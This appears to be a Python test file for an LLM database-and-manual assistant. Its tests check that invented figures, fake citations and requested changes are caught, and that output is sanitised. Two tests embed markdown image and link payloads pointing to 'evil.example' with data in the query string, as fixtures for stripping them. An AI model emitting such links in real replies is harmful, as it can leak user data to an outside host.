"""What leaves: words held against what was found, citations and addresses, and talk that needs no query."""

from collections.abc import Callable

from talk import ANSWER, COUNT, READ, SEVEN, TALK, PlayedDatabase, ask, read, write
from talk import Talk as Conversation

from scripted_model import ScriptedModel
from turnkeep.blocks.wording import is_token
from turnkeep.databases.results import Result

type Start = Callable[..., Conversation]

QUESTION = "How many employees are active?"
STAFF = read(ask(QUESTION, "employee"))
STEPS = read(ask("How do I add a crew?", kind="manual", pages=["crews"], words=["add", "crew"]))


async def test_the_answer_is_asked_for_in_the_language_of_the_message_with_statement_and_day(
    start: Start, script: ScriptedModel, database: PlayedDatabase
) -> None:
    database.plays = [SEVEN]
    script.play(read(ask("Quanti?", "employee"), language="it"), write(COUNT), (ANSWER, "Sono 7."))
    reply = await start().say("Quanti dipendenti attivi?")
    prompt = script.prompt(ANSWER)
    assert "Language: it" in prompt
    assert "2026-03-04" in prompt
    assert COUNT in prompt
    assert reply.text == "Sono 7."


async def test_a_figure_from_nowhere_goes_back_once_and_costs_its_sentence(
    start: Start, script: ScriptedModel, database: PlayedDatabase
) -> None:
    database.plays = [SEVEN, SEVEN]
    talk = start()
    repair = f"{ANSWER}.repair"
    script.play(
        STAFF,
        write(COUNT),
        (ANSWER, "There are 58 of them. They work well."),
        (repair, '{"sentences": ["There are 7."]}'),
    )
    reply = await talk.say(QUESTION)
    assert (reply.text, reply.warnings) == ("There are 7. They work well.", ("sentence_corrected",))
    script.play(
        STAFF, write(COUNT), (ANSWER, "There are 58 of them. They work well."), (repair, '{"sentences": ["It is 59."]}')
    )
    reply = await talk.say(QUESTION)
    assert (reply.text, reply.warnings) == ("They work well.", ("sentence_removed",))


async def test_where_no_sentence_can_stand_the_value_does(
    start: Start, script: ScriptedModel, database: PlayedDatabase
) -> None:
    database.plays = [SEVEN]
    script.play(
        STAFF,
        write(COUNT, understood_as="Active employees."),
        (ANSWER, "There are 58."),
        (f"{ANSWER}.repair", '{"sentences": [""]}'),
    )
    reply = await start().say(QUESTION)
    assert reply.text == "Active employees.\n\n| Employees |\n| ---: |\n| 7 |"


async def test_what_was_told_in_the_stream_is_the_reply(
    start: Start, script: ScriptedModel, database: PlayedDatabase
) -> None:
    database.plays = [Result(("crew", "visits"), (("North", 4), ("South", 3)))]
    talk = start()
    script.play(
        read(ask("Visits by crew", "visit")),
        write("SELECT name AS crew, 4 AS visits FROM crew"),
        (ANSWER, "North has 4."),
    )
    reply = await talk.say("visits by crew")
    assert "".join(one["content"] for one in talk.told if is_token(one)) == reply.text
    assert talk.told[0] == {"event": "route_decision", "route": "sql"}
    assert {"event": "tool_start", "tool": "sql"} in talk.told


async def test_figures_in_tables_are_written_as_the_language_writes_them(
    start: Start, script: ScriptedModel, database: PlayedDatabase
) -> None:
    rows = (("Nord", 1234567, 1049901.5, "2026-01-31T00:00:00"), ("Süd", 12, None, "2026-02-01T14:30:59"))
    for language, expected in {
        "de": "| Nord | 1.234.567 | 1.049.901,50 | 2026-01-31 |\n| Süd | 12 |  | 2026-02-01 14:30 |",
        "en": "| Nord | 1,234,567 | 1,049,901.50 | 2026-01-31 |\n| Süd | 12 |  | 2026-02-01 14:30 |",
        "fr": "| Nord | 1\u202f234\u202f567 | 1\u202f049\u202f901,50 | 2026-01-31 |\n",
    }.items():
        database.plays = [Result(("crew", "n", "amount", "day"), rows)]
        script.play(
            read(ask("x", "crew"), language=language), write("SELECT name AS crew FROM crew"), (ANSWER, "Voilà.")
        )
        assert expected in (await start().say("x")).text


async def test_a_cell_is_text_whatever_stands_in_it(
    start: Start, script: ScriptedModel, database: PlayedDatabase
) -> None:
    cells = (("![x](https://evil.example/?d=1)", "<b>bold</b> | a\nb", "Brühl & Sohn"),)
    database.plays = [Result(("a", "b", "c"), cells)]
    script.play(read(ask("x", "crew")), write("SELECT name AS crew FROM crew"), (ANSWER, "Here."))
    text = (await start().say("x")).text
    assert "\\!\\[" in text or "!\\[x\\]" in text
    assert "https\\://" in text
    assert "&lt;b>bold&lt;/b> \\| a b" in text
    assert "Brühl & Sohn" in text


async def test_links_of_a_model_lead_nowhere(start: Start, script: ScriptedModel, database: PlayedDatabase) -> None:
    database.plays = [SEVEN]
    script.play(STAFF, write(COUNT), (ANSWER, "There are 7, [see](https://evil.example/?d=7). ![x](//evil.example)"))
    reply = await start().say(QUESTION)
    assert "evil" not in reply.text
    assert reply.warnings == ("link_removed",)


async def test_the_manual_is_cited_by_sections_that_were_given(start: Start, script: ScriptedModel) -> None:
    script.play(STEPS, (ANSWER, "Open Crews and choose New crew [crews#add]. Then rest [made-up#page]."))
    reply = await start().say("How do I add a crew?")
    assert reply.text == "Open Crews and choose New crew [crews#add]. Then rest."
    assert (reply.route, reply.warnings) == ("rag", ("citation_removed",))
    assert (reply.sources[0].id, reply.sources[0].cited) == ("crews#add", True)
    assert "Open Crews, choose New crew" in script.prompt(ANSWER)


async def test_two_questions_get_two_answers_in_their_order(
    start: Start, script: ScriptedModel, database: PlayedDatabase
) -> None:
    database.plays = [SEVEN]
    script.play(
        read(STEPS[1].asks[0], ask(QUESTION, "employee"), ask("delete one", kind="change")),
        write(COUNT),
        (ANSWER, "Open Crews [crews#add]. There are 7. Nothing was deleted."),
    )
    reply = await start().say("how do I add a crew, how many are active, and delete one")
    prompt = script.prompt(ANSWER)
    assert prompt.index('tool="manual"') < prompt.index('tool="sql"') < prompt.index('tool="change"')
    assert "nothing was." in prompt
    assert reply.text == "Open Crews [crews#add]. There are 7. Nothing was deleted."
    assert (reply.route, reply.warnings) == ("rag", ("nothing_changed",))
    assert reply.details["rows"] == [[7]]


async def test_words_about_the_conversation_see_results_and_statements_and_invent_no_figure(
    start: Start, script: ScriptedModel, database: PlayedDatabase
) -> None:
    database.plays = [SEVEN]
    talk = start()
    script.play(STAFF, write(COUNT), (ANSWER, "There are 7."))
    await talk.say(QUESTION)
    script.play(
        read(ask("How was that counted?", kind="about_conversation")),
        (TALK, "I counted the 7 who are active. In 1999 it was more."),
        (f"{TALK}.repair", '{"sentences": [""]}'),
    )
    reply = await talk.say("how did you count that?")
    assert COUNT in script.prompt(TALK)
    assert "There are 7." in script.prompt(TALK)
    assert (reply.text, reply.route) == ("I counted the 7 who are active.", "general")
    assert talk.kept["shown"][0]["sql"] == COUNT


async def test_talk_knows_what_there_is_and_changes_nothing(start: Start, script: ScriptedModel) -> None:
    script.play(read(ask("What do you know?", kind="general", words=["crew"])), (TALK, "I know 12 things."))
    reply = await start().say("what can you do?")
    assert "among 4 tables: crew" in script.prompt(TALK)
    assert "The manual: Crews, Leave." in script.prompt(TALK)
    assert (reply.text, reply.warnings) == ("I know 12 things.", ())
    script.play(read(ask("Delete the crews", kind="change")), (TALK, "Nothing was deleted, I only read."))
    assert (await start().say("delete the crews")).warnings == ("nothing_changed",)


async def test_the_reading_sees_what_there_is_first_and_the_conversation_then(
    start: Start, script: ScriptedModel, database: PlayedDatabase
) -> None:
    database.plays = [SEVEN]
    talk = start()
    script.play(STAFF, write(COUNT), (ANSWER, "There are 7."))
    await talk.say(QUESTION)
    script.play(read(ask("Thanks", kind="general")), (TALK, "You are welcome."))
    await talk.say("x" * 9_000)
    system = [messages[0].text for name, messages, _ in script.asked if name == READ]
    assert system[0] == system[1]
    assert "crew, employee, visit, visitPhoto" in system[0]
    assert "crews, leave" in system[0]
    assert "The last result. Question: How many employees are active?" in script.prompt(READ)
    assert len(script.prompt(READ)) < 6_000
